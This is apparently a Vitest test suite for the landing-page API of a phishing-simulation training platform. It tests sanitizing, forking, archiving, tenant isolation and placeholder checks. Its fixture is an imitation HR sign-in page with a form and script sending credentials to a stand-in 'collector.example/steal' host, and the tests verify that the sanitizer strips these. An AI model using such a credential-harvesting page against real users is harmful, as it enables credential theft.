import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, type TestApp } from '../../../../test/helpers/app.js';
import { auditOf } from '../identity/test-kit.js';
import { presentLandingSummary } from './library-present.js';
import type { LandingDto, LandingSummaryDto } from './library-schema.js';
import { templateInput, tenant } from './library-test-kit.js';

const page = (over: Record<string, unknown> = {}) => ({
  kind: 'sign-in',
  texts: {
    fr: {
      title: 'Portail RH (imitation)',
      html:
        '<main style="padding:24px"><h1>Portail RH</h1><p>Bonjour {{firstName}}</p>' +
        '<form action="https://collector.example/steal" method="post"><input name="login" onfocus="x()"><input name="password" type="password">' +
        '<button type="submit">Connexion</button></form><script>fetch("https://collector.example")</script></main>',
    },
  },
  ...over,
});

describe('phishing landing pages', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeTestApp();
  });
  afterAll(async () => t.close());

  it('lists the catalogue pages of every kind, filters them, and shows one', async () => {
    const { admin, base } = await tenant(t);
    const res = await admin.client.get(`${base}/landing-pages?origin=catalogue`);
    expect(res.statusCode).toBe(200);
    const items: LandingSummaryDto[] = res.json().items;
    expect(new Set(items.map((i) => i.kind))).toEqual(new Set(['sign-in', 'webmail', 'file-share', 'attachment']));
    const webmail = await admin.client.get(`${base}/landing-pages?kind=webmail`);
    expect(webmail.json().items.every((i: LandingSummaryDto) => i.kind === 'webmail')).toBe(true);
    const one: LandingDto = (await admin.client.get(`${base}/landing-pages/${items[0]!.id}`)).json();
    expect(one.texts.fr?.html).toContain('<form method="post">');
    expect(one.texts.en?.title.length).toBeGreaterThan(0);
  });

  it('creates a page with its form action and scripts removed; forks, edits, archives; catalogue read-only', async () => {
    const { orgId, admin, base } = await tenant(t);
    const res = await admin.client.post(`${base}/landing-pages`, page());
    expect(res.statusCode).toBe(201);
    const created: LandingDto = res.json();
    expect(created).toMatchObject({ origin: 'custom', kind: 'sign-in', version: 1, title: 'Portail RH (imitation)', languages: ['fr'] });
    const html = created.texts.fr!.html;
    expect(html).toContain('<form method="post">');
    expect(html).not.toMatch(/collector|script|onfocus|action=/);
    expect(html).toContain('Bonjour {{firstName}}');

    const updated = await admin.client.put(`${base}/landing-pages/${created.id}`, page({ kind: 'webmail' }));
    expect(updated.json()).toMatchObject({ kind: 'webmail', version: 2 });

    // A template may point at the organization's own page, and not at another organization's.
    const withPage = await admin.client.post(`${base}/templates`, templateInput({ landingPageId: created.id }));
    expect(withPage.statusCode).toBe(201);
    const other = await tenant(t);
    const refused = await other.admin.client.post(`${other.base}/templates`, templateInput({ landingPageId: created.id }));
    expect(refused.json().error).toMatchObject({ code: 'unknown_landing_page', field: 'landingPageId' });
    expect((await other.admin.client.get(`${other.base}/landing-pages/${created.id}`)).statusCode).toBe(404);

    const catalogueId = (await admin.client.get(`${base}/landing-pages?origin=catalogue`)).json().items[0].id;
    expect((await admin.client.put(`${base}/landing-pages/${catalogueId}`, page())).statusCode).toBe(403);
    const fork = await admin.client.post(`${base}/landing-pages/${catalogueId}/fork`);
    expect(fork.statusCode).toBe(201);
    expect(fork.json()).toMatchObject({ origin: 'fork', version: 1, languages: ['fr', 'en'] });
    // The copy records its source, like a template's (the summary's forkedFrom).
    const copy = await t.dbh.db.selectFrom('phishing_landing_pages').selectAll().where('id', '=', fork.json().id).executeTakeFirstOrThrow();
    expect(copy.forked_from).toBe(catalogueId);
    expect(presentLandingSummary({ ...copy, texts: [] }, 'fr')).toMatchObject({ forkedFrom: catalogueId });
    expect(
      (await t.dbh.db.selectFrom('phishing_landing_pages').select('forked_from').where('id', '=', created.id).executeTakeFirstOrThrow())
        .forked_from,
    ).toBeNull();

    expect((await admin.client.delete(`${base}/landing-pages/${created.id}`)).statusCode).toBe(204);
    // Archived pages can no longer be chosen for a template.
    const late = await admin.client.post(`${base}/templates`, templateInput({ landingPageId: created.id }));
    expect(late.json().error.code).toBe('unknown_landing_page');
    const actions = (await auditOf(t, created.id)).map((a) => a.action);
    expect(actions).toEqual(['phishing.landing_page.create', 'phishing.landing_page.update', 'phishing.landing_page.archive']);
    const owner = await t.dbh.db
      .selectFrom('phishing_landing_pages')
      .select('organization_id')
      .where('id', '=', created.id)
      .executeTakeFirstOrThrow();
    expect(owner.organization_id).toBe(orgId);
  });

  it('refuses unknown placeholders and pages left empty once cleaned; previews', async () => {
    const { admin, base } = await tenant(t);
    const unknown = await admin.client.post(
      `${base}/landing-pages`,
      page({ texts: { en: { title: 'x page', html: '<p>{{.Email}}</p>' } } }),
    );
    expect(unknown.json().error).toMatchObject({ code: 'unknown_placeholder', field: 'texts.en.html' });
    const empty = await admin.client.post(
      `${base}/landing-pages`,
      page({ texts: { fr: { title: 'Vide', html: '<script>x()</script>' } } }),
    );
    expect(empty.json().error).toMatchObject({ code: 'empty_page', field: 'texts.fr.html' });
    const preview = await admin.client.post(`${base}/landing-pages/preview`, {
      html: '<form action="x"><p>{{firstName}} {{nope}}</p></form>',
    });
    expect(preview.json()).toEqual({ html: '<form><p>Camille {{nope}}</p></form>', unknownPlaceholders: ['nope'] });
  });
});
